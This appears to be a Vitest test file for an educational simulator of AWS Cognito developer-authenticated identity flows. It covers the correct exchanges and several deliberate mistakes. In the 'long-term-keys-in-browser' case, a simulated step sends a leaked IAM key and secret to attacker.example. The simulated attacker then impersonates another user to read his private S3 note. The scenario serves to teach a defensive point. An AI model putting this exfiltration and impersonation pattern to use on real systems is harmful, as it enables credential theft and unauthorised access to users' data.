import { decodeJwt, decodeProtectedHeader } from 'jose';
import { beforeAll, describe, expect, it } from 'vitest';
import { createCloud, type Exchange } from '$lib/cloud';
import { identityPoolTestKeys } from '../../../../tests/support/identity-pool-test-keys';
import { testKeys } from '../../../../tests/support/test-keys';
import type { FlowRun } from '../types';
import { run } from './run';

const pinnedAt = Date.UTC(2026, 10, 3, 9, 5, 7);
const poolId = 'us-east-1:7c1d5b2e-4f3a-4e8b-9a6d-0f1e2d3c4b5a';
const identityIdPattern = /^us-east-1:[0-9a-f-]{36}$/;

const cloud = () =>
	createCloud(undefined, {
		clock: { fixed: pinnedAt },
		userPoolKeys: testKeys,
		identityPoolKeys: identityPoolTestKeys
	});

/** Each step as [id, outcome, ['<from> → <host> <label> <status> [<error code>]']]. */
const summary = (flowRun: FlowRun) =>
	flowRun.steps.map((s) => [s.id, s.outcome, s.exchanges.map(arrow)] as const);

function arrow(exchange: Exchange): string {
	const host = new URL(exchange.request.url).host;
	const { status } = exchange.response;
	const code = status < 300 ? '' : ` ${errorCode(exchange.response.body)}`;
	return `${exchange.from} → ${host} ${exchange.label} ${status}${code}`;
}

/** The error code in whichever shape the service speaks: AWS JSON, the back end's JSON, XML. */
function errorCode(body: string): string {
	if (!body.startsWith('{')) return /<Code>([^<]+)<\/Code>/.exec(body)?.[1] ?? '';
	const fields = JSON.parse(body) as { __type?: string; error?: string };
	return fields.__type ?? fields.error ?? '';
}

const json = <T>(text: string) => JSON.parse(text) as T;
const exchangesOf = (flowRun: FlowRun) => flowRun.steps.flatMap((s) => s.exchanges);

describe('the developer-authenticated flow, enhanced', () => {
	let alice: FlowRun;
	beforeAll(async () => {
		alice = await run({ cloud: cloud(), choices: {}, mistakes: [] });
	});

	it('signs in to the back end, which vouches for alice with a nested signed call; the app trades the token and uses S3', () => {
		expect(alice).toMatchObject({
			flowId: 'identity-pool-developer-authenticated',
			user: 'alice',
			status: 'done',
			mistakes: []
		});
		expect(summary(alice)).toEqual([
			['sign-in-to-back-end', 'ok', ['app → api.example.com POST /sign-in 200']],
			[
				'get-identity-token',
				'ok',
				[
					'app → api.example.com POST /identity-token 200',
					'back-end → cognito-identity.us-east-1.amazonaws.com GetOpenIdTokenForDeveloperIdentity 200'
				]
			],
			[
				'get-credentials',
				'ok',
				['app → cognito-identity.us-east-1.amazonaws.com GetCredentialsForIdentity 200']
			],
			['put-note', 'ok', ['app → flow-lab-notes.s3.us-east-1.amazonaws.com PutObject 200']],
			['read-note', 'ok', ['app → flow-lab-notes.s3.us-east-1.amazonaws.com GetObject 200']]
		]);
	});

	it("draws the developer call from the back end's lifeline, as a child of the app's request", () => {
		const [parent, child] = alice.steps[1]!.exchanges;
		expect(child!.parent).toBe(parent!.id);
		expect(parent!.parent).toBeUndefined();
	});

	it('signs the developer call with the back end’s long-term key, and the pool explains each SigV4 step', () => {
		const call = alice.steps[1]!.exchanges[1]!;
		const authorization = call.request.headers.find(([n]) => n === 'authorization')?.[1];
		expect(authorization).toMatch(
			/^AWS4-HMAC-SHA256 Credential=AKIAFLOWLABBACKEND01\/20261103\/us-east-1\/cognito-identity\/aws4_request, SignedHeaders=[a-z0-9;-]+, Signature=[0-9a-f]{64}$/
		);
		expect(json(call.request.body)).toEqual({
			IdentityPoolId: poolId,
			Logins: { 'login.flowlab.app': 'user-1001' }
		});
		const sigv4 = call.explanations?.find((e) => e.kind === 'sigv4');
		expect(sigv4?.verdict).toBe('pass');
		expect(sigv4?.checks.map((c) => c.label)).toEqual(
			expect.arrayContaining(['Canonical request', 'String to sign', 'Signing key', 'Signature'])
		);
		// The secret itself never travels
		expect(JSON.stringify(call.request)).not.toContain('fLowLabDemoBackEndSecret');
	});

	it('hands the app an identity pool token for that identity: RS512, 15 minutes, amr naming the developer login', () => {
		const answer = json<{ identityId: string; token: string }>(
			alice.steps[1]!.exchanges[0]!.response.body
		);
		expect(answer.identityId).toMatch(identityIdPattern);
		expect(decodeProtectedHeader(answer.token)).toMatchObject({ alg: 'RS512', typ: 'JWS' });
		const claims = decodeJwt(answer.token);
		expect(claims).toMatchObject({
			iss: 'https://cognito-identity.amazonaws.com',
			sub: answer.identityId,
			aud: poolId,
			amr: ['authenticated', 'login.flowlab.app', `login.flowlab.app:${poolId}:user-1001`]
		});
		expect(claims.exp! - claims.iat!).toBe(900);
		// The app sends it back under the issuer's key, with the identity id from its back end
		expect(json(alice.steps[2]!.exchanges[0]!.request.body)).toEqual({
			IdentityId: answer.identityId,
			Logins: { 'cognito-identity.amazonaws.com': answer.token }
		});
	});

	it("writes and reads the note under the identity's own prefix, signed with the temporary credentials", () => {
		const identityId = json<{ identityId: string }>(
			alice.steps[1]!.exchanges[0]!.response.body
		).identityId;
		const [put, get] = [alice.steps[3]!.exchanges[0]!, alice.steps[4]!.exchanges[0]!];
		for (const exchange of [put, get]) {
			expect(exchange.request.url).toBe(
				`https://flow-lab-notes.s3.us-east-1.amazonaws.com/private/${identityId}/notes.txt`
			);
			const names = exchange.request.headers.map(([n]) => n);
			expect(names).toEqual(
				expect.arrayContaining(['x-amz-security-token', 'x-amz-content-sha256'])
			);
			expect(exchange.explanations?.map((e) => [e.kind, e.verdict])).toEqual([
				['sigv4', 'pass'],
				['permissions', 'pass']
			]);
		}
		expect(get.response.body).toBe(put.request.body);
		expect(get.response.body).toBe(
			"alice's note: the back end holds the IAM key, never the app.\n"
		);
	});

	it('captions each step from the values of the run', () => {
		const identityId = json<{ identityId: string }>(
			alice.steps[1]!.exchanges[0]!.response.body
		).identityId;
		expect(alice.steps[0]!.caption).toBe(
			"The app sends alice's username and password to its own back end at api.example.com. The back end checks them against its own users and answers with its user id user-1001 and a session; Cognito is not involved."
		);
		expect(alice.steps[1]!.caption).toBe(
			`The back end signs GetOpenIdTokenForDeveloperIdentity with its IAM key and the login "login.flowlab.app": "user-1001". The identity pool checks the signature and answers with identity ${identityId} and a token, which the back end passes to the app.`
		);
		expect(alice.steps[2]!.caption).toMatch(
			/^The app calls GetCredentialsForIdentity with identity us-east-1:[0-9a-f-]+ and the token under cognito-identity\.amazonaws\.com\. The identity pool picks the authenticated role and returns ASIA[A-Z0-9]{16}, valid until 10:05:07 UTC\.$/
		);
		expect(alice.steps.map((s) => s.at)).toEqual(alice.steps.map(() => pinnedAt));
	});
});

describe('the developer-authenticated flow, basic', () => {
	it('trades the token at STS with AssumeRoleWithWebIdentity, unsigned, naming the authenticated role', async () => {
		const bob = await run({
			cloud: cloud(),
			choices: { user: 'bob', variant: 'basic' },
			mistakes: []
		});
		expect(bob.status).toBe('done');
		expect(bob.user).toBe('bob');
		expect(summary(bob)[2]).toEqual([
			'get-credentials',
			'ok',
			['app → sts.amazonaws.com AssumeRoleWithWebIdentity 200']
		]);
		const sts = bob.steps[2]!.exchanges[0]!;
		const form = new URLSearchParams(sts.request.body);
		expect(form.get('RoleArn')).toBe('arn:aws:iam::111122223333:role/FlowLabAuthenticated');
		expect(form.get('Action')).toBe('AssumeRoleWithWebIdentity');
		expect(sts.request.headers.some(([n]) => n === 'authorization')).toBe(false);
		expect(json(bob.steps[1]!.exchanges[1]!.request.body)).toMatchObject({
			Logins: { 'login.flowlab.app': 'user-1002' }
		});
		expect(bob.steps[2]!.caption).toMatch(
			/^The app calls STS AssumeRoleWithWebIdentity with the token, naming the role FlowLabAuthenticated\. STS checks the trust policy \(aud and amr\) and returns ASIA[A-Z0-9]{16}, valid until 10:05:07 UTC\.$/
		);
	});
});

describe('the developer-authenticated mistakes', () => {
	it('get-id-with-developer-token: GetId refuses the pool’s own token and the run fails there', async () => {
		const failed = await run({
			cloud: cloud(),
			choices: {},
			mistakes: ['get-id-with-developer-token']
		});
		expect(failed.status).toBe('failed');
		expect(failed.error).toBe(
			"NotAuthorizedException: Invalid login token. Can't pass in a Cognito token."
		);
		expect(summary(failed).slice(2)).toEqual([
			[
				'get-credentials',
				'error',
				['app → cognito-identity.us-east-1.amazonaws.com GetId 400 NotAuthorizedException']
			]
		]);
		expect(json(failed.steps[2]!.exchanges[0]!.request.body)).toMatchObject({
			IdentityPoolId: poolId,
			Logins: { 'cognito-identity.amazonaws.com': expect.any(String) }
		});
		expect(failed.steps[2]!.caption).toBe(
			"The app calls GetId with the token under cognito-identity.amazonaws.com, as for any other login. The identity pool refuses: NotAuthorizedException: Invalid login token. Can't pass in a Cognito token."
		);
	});

	it('identity-id-without-token: GetCredentialsForIdentity without Logins gets "Logins don\'t match", even in the basic flow', async () => {
		const failed = await run({
			cloud: cloud(),
			choices: { variant: 'basic' },
			mistakes: ['identity-id-without-token']
		});
		expect(failed.error).toBe(
			"NotAuthorizedException: Logins don't match. Please include at least one valid login for this identity or identity pool."
		);
		expect(summary(failed).slice(2)).toEqual([
			[
				'get-credentials',
				'error',
				[
					'app → cognito-identity.us-east-1.amazonaws.com GetCredentialsForIdentity 400 NotAuthorizedException'
				]
			]
		]);
		expect(Object.keys(json<object>(failed.steps[2]!.exchanges[0]!.request.body))).toEqual([
			'IdentityId'
		]);
	});

	describe('long-term-keys-in-browser', () => {
		let leaked: FlowRun;
		beforeAll(async () => {
			leaked = await run({ cloud: cloud(), choices: {}, mistakes: ['long-term-keys-in-browser'] });
		});

		it('works, and the attacker ends up reading the user’s private note: nothing refuses', () => {
			expect(leaked.status).toBe('done');
			expect(summary(leaked)).toEqual([
				[
					'mint-token-in-browser',
					'ok',
					['app → cognito-identity.us-east-1.amazonaws.com GetOpenIdTokenForDeveloperIdentity 200']
				],
				[
					'get-credentials',
					'ok',
					['app → cognito-identity.us-east-1.amazonaws.com GetCredentialsForIdentity 200']
				],
				['put-note', 'ok', ['app → flow-lab-notes.s3.us-east-1.amazonaws.com PutObject 200']],
				['read-note', 'ok', ['app → flow-lab-notes.s3.us-east-1.amazonaws.com GetObject 200']],
				['keys-stolen', 'ok', ['app → attacker.example POST /keys 204']],
				[
					'attacker-mints-token',
					'ok',
					[
						'attacker → cognito-identity.us-east-1.amazonaws.com GetOpenIdTokenForDeveloperIdentity 200'
					]
				],
				[
					'attacker-gets-credentials',
					'ok',
					['attacker → cognito-identity.us-east-1.amazonaws.com GetCredentialsForIdentity 200']
				],
				[
					'attacker-reads-note',
					'ok',
					['attacker → flow-lab-notes.s3.us-east-1.amazonaws.com GetObject 200']
				]
			]);
			expect(exchangesOf(leaked).some((e) => e.to === 'back-end')).toBe(false);
		});

		it('sends the long-term key and its secret to the attacker', () => {
			expect(json(leaked.steps[4]!.exchanges[0]!.request.body)).toEqual({
				accessKeyId: 'AKIAFLOWLABBACKEND01',
				secretAccessKey: 'fLowLabDemoBackEndSecret/DoNotUse/000042'
			});
		});

		it('lets the attacker speak for another user, bob, and read the note bob left earlier', () => {
			const appIdentity = json<{ IdentityId: string }>(
				leaked.steps[0]!.exchanges[0]!.response.body
			);
			const minted = leaked.steps[5]!.exchanges[0]!;
			// Alice's page leaked the key; the attacker names bob's id, and Cognito takes its word.
			expect(json<{ Logins: Record<string, string> }>(minted.request.body).Logins).toEqual({
				'login.flowlab.app': 'user-1002'
			});
			expect(minted.request.headers.find(([n]) => n === 'authorization')?.[1]).toContain(
				'Credential=AKIAFLOWLABBACKEND01/'
			);
			const bobIdentity = json<{ IdentityId: string }>(minted.response.body).IdentityId;
			// Bob's identity from his earlier visits, not alice's and not a new one.
			expect(bobIdentity).toBe('us-east-1:9d4a6f21-0c3e-4b87-a5d2-1e8f7c6b3a05');
			expect(bobIdentity).not.toBe(appIdentity.IdentityId);
			const read = leaked.steps[7]!.exchanges[0]!;
			expect(read.request.url).toContain(`/private/${bobIdentity}/notes.txt`);
			expect(read.response).toMatchObject({ status: 200 });
			expect(read.response.body).toContain('bob’s notes');
			expect(leaked.steps[5]!.caption).toContain(
				`for "user-1002", bob's id, without any password; bob is not even on this page`
			);
			expect(leaked.steps[7]!.caption).toContain('the spare key is under the blue pot');
		});
	});

	it('rejects a choice or mistake the flow does not know with a TypeError', async () => {
		await expect(
			run({ cloud: cloud(), choices: { user: 'mallory' }, mistakes: [] })
		).rejects.toThrow(new TypeError('The back end has no user "mallory"'));
		await expect(run({ cloud: cloud(), choices: {}, mistakes: ['nope'] })).rejects.toThrow(
			new TypeError('Flow identity-pool-developer-authenticated has no mistake "nope"')
		);
	});
});
